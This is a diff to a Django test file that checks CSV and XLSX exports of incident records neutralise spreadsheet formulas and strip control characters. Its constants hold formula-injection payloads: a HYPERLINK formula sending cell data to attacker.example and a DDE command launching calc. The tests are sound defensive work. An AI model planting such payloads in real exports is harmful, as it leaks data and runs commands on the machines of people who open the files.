@@ -10,6 +10,7 @@ import io
 
 import pytest
 from django.core.management import call_command
+from django.db import connection
 from openpyxl import load_workbook
 
 from svidok.common.cells import csv_cell, xlsx_cell
@@ -23,6 +24,9 @@ from tests.helpers import login
 
 pytestmark = pytest.mark.django_db
 
+# PostgreSQL cannot store NUL at all (the finding is SQLite's); another control character breaks
+# XLSX the same way.
+NUL = "\x00" if connection.vendor == "sqlite" else "\x01"
 HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
 CMD = "+cmd|' /C calc'!A0"
 
@@ -46,7 +50,7 @@ def hostile(coordinator):
     as an older version of Svidok let it be)."""
     formula = factories.incident(coordinator, title=HYPERLINK, narrative=CMD, victim_count=3)
     nul = factories.incident(coordinator, title="Teacher dismissed")
-    Incident.objects.filter(pk=nul.pk).update(title="Teacher\x00 dismissed\x1b")
+    Incident.objects.filter(pk=nul.pk).update(title=f"Teacher{NUL} dismissed\x1b")
     return formula, nul
 
 
@@ -60,6 +64,8 @@ def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path, hostile):
     rows = list(csv.DictReader(export(tmp_path, "csv").open(encoding="utf-8", newline="")))
 
     formula = next(r for r in rows if r["reference"] == hostile[0].reference)
+    stored = next(r for r in rows if r["reference"] == hostile[1].reference)
+    assert stored["title"] == "Teacher\ufffd dismissed\ufffd"
     assert (formula["title"], formula["narrative"], formula["victim_count"]) == ("'" + HYPERLINK, "'" + CMD, "3")
 
 
@@ -81,7 +87,7 @@ def proposal(coordinator):
     organization = factories.organization(coordinator)
     created = proposals.create_proposal(actor=coordinator, title="Organizers of the vote")
     member = proposals.add_member(actor=coordinator, proposal=created, organization=organization, grounds=CMD)
-    ProposalMember.objects.filter(pk=member.pk).update(grounds="Chaired\x00 the commission\x0b")
+    ProposalMember.objects.filter(pk=member.pk).update(grounds=f"Chaired{NUL} the commission\x0b")
     return created
 
 
